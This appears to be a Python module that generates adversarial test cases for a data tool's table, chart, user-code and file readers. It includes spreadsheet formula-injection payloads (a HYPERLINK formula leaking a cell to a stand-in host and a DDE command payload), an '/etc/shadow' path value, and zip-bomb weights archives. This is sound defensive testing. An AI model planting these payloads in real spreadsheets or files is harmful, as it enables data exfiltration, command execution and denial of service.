"""Generated instances of issue 19 (round 3) for table, chart and the data a user brings.

Each generator returns ``name -> instance``, 50 or more per class, beyond the issue's examples:

- :func:`table_cases` (19.4): code files whose factors and results carry spreadsheet formulas,
  columns that table owns, lone surrogates and values of mixed types.
- :func:`fd_cases` (19.5): a limit on open files, a number of files above it, and a reader.
- :func:`user_code_cases` (19.7): a model that prints (from import, factory, forward or a thread,
  by print, sys.stdout, the file descriptor) or exits (sys.exit with any status, SystemExit).
- :func:`npy_cases`, :func:`image_cases`, :func:`weights_cases` (19.8): npy inputs and labels
  of non-real dtypes, truncated, lying or out of the class range; image folders with a FIFO
  among the images; weights archives that inflate far beyond their size.
"""

from __future__ import annotations

import os
import struct
import zipfile
from pathlib import Path
from typing import Any

import numpy as np

from actcode.results import ResultTable
from actcode.table import FORMULA_START, OWNED_COLUMNS

# -- 19.4 table ------------------------------------------------------------------------------
PAYLOADS = ('HYPERLINK("http://x.test/?leak="&A1,"click")', "cmd|' /C calc'!A0", "1+1", "SUM(1,2)")


def table_cases() -> dict[str, dict[str, Any]]:
    """``name -> {"factors": extra factors, "rows": result rows}`` of hostile text."""
    cases: dict[str, dict[str, Any]] = {}
    for i, start in enumerate(FORMULA_START):
        for j, payload in enumerate(PAYLOADS):
            text = start + payload
            tag = f"{i}{j}"
            cases[f"formula-factor-value-{tag}"] = {"factors": {"note": text}, "rows": []}
            cases[f"formula-metric-{tag}"] = {"factors": {}, "rows": [("train", "all", text, 0.5)]}
            if j < 2:
                cases[f"formula-factor-key-{tag}"] = {"factors": {text: 1}, "rows": []}
                cases[f"formula-scope-{tag}"] = {"factors": {}, "rows": [("test", text, "redundancy", -0.5)]}
    for col in OWNED_COLUMNS:
        for owned in ("/etc/shadow", "=1+1", 7):
            cases[f"owned-{col}-{owned}"] = {"factors": {col: owned}, "rows": []}
        cases[f"metric-named-{col}"] = {"factors": {}, "rows": [("train", "all", col, 1.25)]}
    for k, text in enumerate(("\ud800", "a\udcff", "\udfff=x", "=\ud83d", "x\ud800y\udc00")):
        cases[f"surrogate-value-{k}"] = {"factors": {"note": text}, "rows": []}
        cases[f"surrogate-key-{k}"] = {"factors": {f"k{text}": 1}, "rows": []}
    mixed: tuple[object, ...] = (3, 2.5, "three", True, None, 10**18, -0.0, -4)
    for k, value in enumerate(mixed):
        cases[f"mixed-type-{k}"] = {"factors": {"mixed": value}, "rows": []}
    cases["bool-only-column"] = {"factors": {"flag": True}, "rows": []}
    return cases


def table_file(path: Path, case: dict[str, Any], seed: int) -> Path:
    """A valid code file with the case's factors and result rows (and a redundancy row)."""
    from actcode.io.results_io import add_results
    from actcode.testing.helpers import tiny_layers, write_code_file

    rng = np.random.default_rng(seed)
    bits = {"train": rng.integers(0, 2, (12, 17)), "test": rng.integers(0, 2, (6, 17))}
    labels = {"train": np.arange(12) % 3, "test": np.arange(6) % 3}
    factors = {"dataset": "synthetic", "model": "mlp", "width": 17, "depth": 2, "epoch": 1, "seed": seed}
    factors.update(case["factors"])
    write_code_file(path, bits, labels, tiny_layers((5, 12)), factors=factors)
    rows = [("train", "all", "redundancy", 0.25 + seed), *case["rows"]]
    add_results(path, "measure", ResultTable.from_rows(rows), params={})
    return path


# -- 19.5 open files -----------------------------------------------------------------------------
READERS = ("csv", "jsonl-wide", "parquet", "parquet-wide", "chart")


def fd_cases() -> dict[str, tuple[int, int, str]]:
    """``name -> (free descriptors above those already open, number of files, reader)``."""
    cases = {}
    for free in (4, 6, 8, 12, 16):
        for n in (free + 6, 3 * free + 6):
            for reader in READERS:
                cases[f"free{free}-files{n}-{reader}"] = (free, n, reader)
    return cases


# -- 19.7 user code ------------------------------------------------------------------------------
WHERE = ("import", "factory", "forward", "factory-thread", "forward-thread")
ACTIONS = {
    "print": "print('NOISE from the model')",
    "print-flush": "print('NOISE', flush=True)",
    "stdout-write": "sys.stdout.write('NOISE\\n'); sys.stdout.flush()",
    "fd-write": "os.write(1, b'NOISE on fd 1\\n')",
    "dunder-stdout": "sys.__stdout__.write('NOISE\\n'); sys.__stdout__.flush()",
    "exit-0": "sys.exit(0)",
    "exit-1": "sys.exit(1)",
    "exit-none": "sys.exit()",
    "exit-text": "sys.exit('bye')",
    "raise-systemexit": "raise SystemExit(0)",
}


def user_code_cases() -> dict[str, tuple[str, str]]:
    """``name -> (where, action)``; an exit from a thread ends only that thread."""
    return {f"{w}-{a}": (w, a) for w in WHERE for a in ACTIONS}


def user_model_source(where: str, action: str) -> str:
    """A factory file ``make(input_shape, n_classes)`` that runs ``action`` at ``where``."""
    act = ACTIONS[action]
    body = {
        "import": (act, "pass", "pass"),
        "factory": ("pass", act, "pass"),
        "forward": ("pass", "pass", act),
        "factory-thread": ("pass", f"threading.Thread(target=lambda: [{_expr(act)}]).start()", "pass"),
        "forward-thread": ("pass", "pass", f"threading.Thread(target=lambda: [{_expr(act)}]).start()"),
    }[where]
    return f"""import math, os, sys, threading
import torch
from torch import nn
{body[0]}
class Net(nn.Module):
    def __init__(self, d, n):
        super().__init__()
        self.fc, self.out = nn.Linear(d, 6), nn.Linear(6, n)
    def forward(self, x):
        {body[2]}
        return self.out(torch.relu(self.fc(x.flatten(1))))
def make(input_shape, n_classes):
    {body[1]}
    return Net(math.prod(input_shape), n_classes)
"""


def _expr(statement: str) -> str:
    """A statement as expressions a lambda can run (``;`` separated calls, raise as a call)."""
    if statement.startswith("raise "):
        return f"(_ for _ in ()).throw({statement[6:]})"
    return ", ".join(s.strip() for s in statement.split(";"))


# -- 19.8 data files ------------------------------------------------------------------------------
def _npy_bytes(arr: np.ndarray) -> bytes:
    import io

    buf = io.BytesIO()
    np.save(buf, arr, allow_pickle=True)
    return buf.getvalue()


def _header_lie(shape: tuple[int, ...]) -> bytes:
    good = _npy_bytes(np.zeros((4, 3), np.float32))
    return good.replace(b"(4, 3)", str(shape).encode().ljust(6)[: max(6, len(str(shape)))])


def npy_cases() -> dict[str, dict[str, Any]]:
    """``name -> {"x": bytes or "fifo" or "dir", "y": bytes or None}`` of npy inputs and labels."""
    x_ok = _npy_bytes(np.ones((6, 4), np.float32))
    cases: dict[str, dict[str, Any]] = {}
    for dt in ("complex64", "complex128", "clongdouble", "datetime64[s]", "timedelta64[s]", "U3", "S3", "V8"):
        cases[f"x-{dt}"] = {"x": _npy_bytes(np.zeros((6, 4), dtype=dt)), "y": None}
    cases["x-object"] = {"x": _npy_bytes(np.array([[1, "a"]] * 6, dtype=object)), "y": None}
    cases["x-structured"] = {"x": _npy_bytes(np.zeros((6, 4), dtype=[("a", "f4"), ("b", "i4")])), "y": None}
    for cut in (1, 3, 10, 40, 64, 100, 127, 128, 129, 140):
        cases[f"x-truncated-to-{cut}"] = {"x": x_ok[:cut], "y": None}
    for short in (1, 4, 17, 95):
        cases[f"x-short-by-{short}"] = {"x": x_ok[:-short], "y": None}
    for shape in ((4000, 3), (4, 30), (10**6, 10**6), (2**40, 2**40)):
        cases[f"x-header-claims-{shape}"] = {"x": _header_lie(shape), "y": None}
    cases["x-fifo"] = {"x": "fifo", "y": None}
    cases["x-folder"] = {"x": "dir", "y": None}
    cases["x-0d"] = {"x": _npy_bytes(np.array(3, np.float32)), "y": None}
    cases["x-1d"] = {"x": _npy_bytes(np.ones(6, np.float32)), "y": None}
    cases["x-empty"] = {"x": _npy_bytes(np.ones((0, 4), np.float32)), "y": None}
    cases["x-bad-magic"] = {"x": b"\x93NUMPX" + x_ok[6:], "y": None}
    cases["x-version-9"] = {"x": x_ok[:6] + b"\x09\x00" + x_ok[8:], "y": None}
    for dt in ("complex64", "float32", "float64", "bool", "U2", "object"):
        cases[f"y-{dt}"] = {"x": x_ok, "y": _npy_bytes(np.zeros(6, dtype=dt))}
    for value in (10**9, 2**31 - 1, 2**31, 2**40, 2**62, -2, -(2**63), 1 << 20):
        cases[f"y-class-{value}"] = {"x": x_ok, "y": _npy_bytes(np.array([0, 1, 2, 0, 1, value], np.int64))}
    cases["y-uint64-max"] = {"x": x_ok, "y": _npy_bytes(np.array([0, 1, 2, 0, 1, 2**64 - 1], np.uint64))}
    cases["y-wrong-length"] = {"x": x_ok, "y": _npy_bytes(np.arange(5))}
    cases["y-2d"] = {"x": x_ok, "y": _npy_bytes(np.zeros((6, 1), np.int64))}
    cases["y-truncated"] = {"x": x_ok, "y": _npy_bytes(np.arange(6))[:-3]}
    cases["y-fifo"] = {"x": x_ok, "y": "fifo"}
    return cases


def write_npy(path: Path, spec: bytes | str) -> Path:
    if spec == "fifo":
        os.mkfifo(path)
    elif spec == "dir":
        path.mkdir()
    else:
        assert isinstance(spec, bytes)
        path.write_bytes(spec)
    return path


def _png(path: Path, seed: int) -> None:
    from PIL import Image

    rng = np.random.default_rng(seed)
    Image.fromarray(rng.integers(0, 255, (10, 10, 3), dtype=np.uint8)).save(path)


IMAGE_NAMES = ("a.png", "b.jpg", "c.JPEG", "d.bmp", "e.webp")
LAYOUTS = ("flat", "classes", "nested", "splits", "symlink")


def image_cases() -> dict[str, tuple[str, str, bool]]:
    """``name -> (layout, FIFO name, skip_bad)``: a FIFO among the images of a folder."""
    return {
        f"{layout}-{name}-{'skip' if skip else 'stop'}": (layout, name, skip)
        for layout in LAYOUTS
        for name in IMAGE_NAMES
        for skip in (False, True)
    }


def image_folder(root: Path, layout: str, name: str) -> Path:
    """Two good images per place, and a FIFO called ``name`` in one place of ``layout``."""
    places = {
        "flat": [root],
        "classes": [root / "cat", root / "dog"],
        "nested": [root / "cat" / "sub", root / "dog"],
    }
    if layout == "splits":
        folders = [root / s / c for s in ("train", "test") for c in ("cat", "dog")]
    else:
        folders = places.get(layout, [root / "cat", root / "dog"])
    for k, f in enumerate(folders):
        f.mkdir(parents=True, exist_ok=True)
        _png(f / f"good{k}-0.png", k)
        _png(f / f"good{k}-1.png", k + 10)
    fifo_dir = folders[-1]
    if layout == "symlink":
        os.mkfifo(root / "elsewhere.fifo")
        (fifo_dir / name).symlink_to(root / "elsewhere.fifo")
    else:
        os.mkfifo(fifo_dir / name)
    return fifo_dir / name


def _zip(path: Path, members: dict[str, bytes], method: int) -> Path:
    with zipfile.ZipFile(path, "w", method) as z:
        for name, data in members.items():
            z.writestr(name, data, compress_type=method)
    return path


def _torch_members(tensor_bytes: int) -> dict[str, bytes]:
    """The members of a torch.save archive of one float32 tensor of ``tensor_bytes`` zero bytes."""
    import io

    import torch

    buf = io.BytesIO()
    torch.save({"fc.weight": torch.zeros(max(1, tensor_bytes // 4))}, buf)
    with zipfile.ZipFile(buf) as z:
        return {i.filename: z.read(i) for i in z.infolist()}


def weights_cases() -> dict[str, tuple[str, int, int]]:
    """``name -> (kind, a, b)`` of a weights file whose archive inflates far beyond its size
    (written by :func:`write_weights`)."""
    methods = (zipfile.ZIP_DEFLATED, zipfile.ZIP_BZIP2, zipfile.ZIP_LZMA)
    cases: dict[str, tuple[str, int, int]] = {}
    for mib in (2, 4, 8, 16):
        for m in methods:
            cases[f"tensor-{mib}MiB-m{m}"] = ("tensor", mib, m)
    for n in (2, 8, 16, 32):
        for mib in (2, 3):
            cases[f"{n}-members-of-{mib}MiB"] = ("many", n, mib)
    for mib in (3, 12, 24):
        for m in methods:
            cases[f"pickle-member-{mib}MiB-m{m}"] = ("pickle", mib, m)
    for gib in (1, 2, 7, 64, 1024, 1 << 20):
        cases[f"declared-{gib}GiB"] = ("declared", gib, 0)
    for mib in (2, 20):
        for k, name in enumerate(MEMBER_NAMES):
            cases[f"member-{name}-{mib}MiB"] = ("member", k, mib)
    for mib in (2, 3, 5, 9, 17, 33):
        cases[f"zeros-{mib}MiB"] = ("zeros", mib, 0)
    for depth in (1, 2, 3):
        cases[f"nested-{depth}"] = ("nested", depth, 0)
    return cases


MEMBER_NAMES = ("a/data/0", "archive/data/0", "x/.data/serialization_id", "a/byteorder")


def write_weights(path: Path, spec: tuple[str, int, int]) -> Path:
    """The weights file of one :func:`weights_cases` instance."""
    kind, a, b = spec
    deflate = zipfile.ZIP_DEFLATED
    if kind == "tensor":
        return _zip(path, _torch_members(a << 20), b)
    if kind == "many":
        return _zip(path, _many(a, b << 20), deflate)
    if kind == "pickle":
        return _zip(path, {"a/data.pkl": bytes(a << 20), "a/version": b"3\n"}, b)
    if kind == "declared":
        return _lying_size(path, a << 30)
    if kind == "member":
        return _zip(path, {**_torch_members(1024), MEMBER_NAMES[a]: bytes(b << 20)}, deflate)
    if kind == "zeros":
        return _zip(path, {"a/data/0": bytes(a << 20)}, deflate)
    return _nested(path, a)


def _many(n: int, size: int) -> dict[str, bytes]:
    return {**_torch_members(1024), **{f"a/data/{i}x": bytes(size) for i in range(n)}}


def _nested(path: Path, depth: int) -> Path:
    """A zip whose member is a zip of zeros, ``depth`` times."""
    import io

    data = bytes(4 << 20)
    for _ in range(depth):
        buf = io.BytesIO()
        with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
            z.writestr("a/data/0", data)
        data = buf.getvalue()
    return _zip(path, {"a/data/0": data, "a/version": b"3\n"}, zipfile.ZIP_STORED)


def _lying_size(path: Path, size: int) -> Path:
    """A stored member whose central-directory entry claims ``size`` uncompressed bytes."""
    _zip(path, {**_torch_members(1024), "a/data/9": b"\0" * 64}, zipfile.ZIP_STORED)
    raw = bytearray(path.read_bytes())
    pos = raw.rfind(b"PK\x01\x02")  # the last member's central-directory entry
    raw[pos + 24 : pos + 28] = struct.pack("<I", min(size, 0xFFFFFFFF))
    path.write_bytes(bytes(raw))
    return path
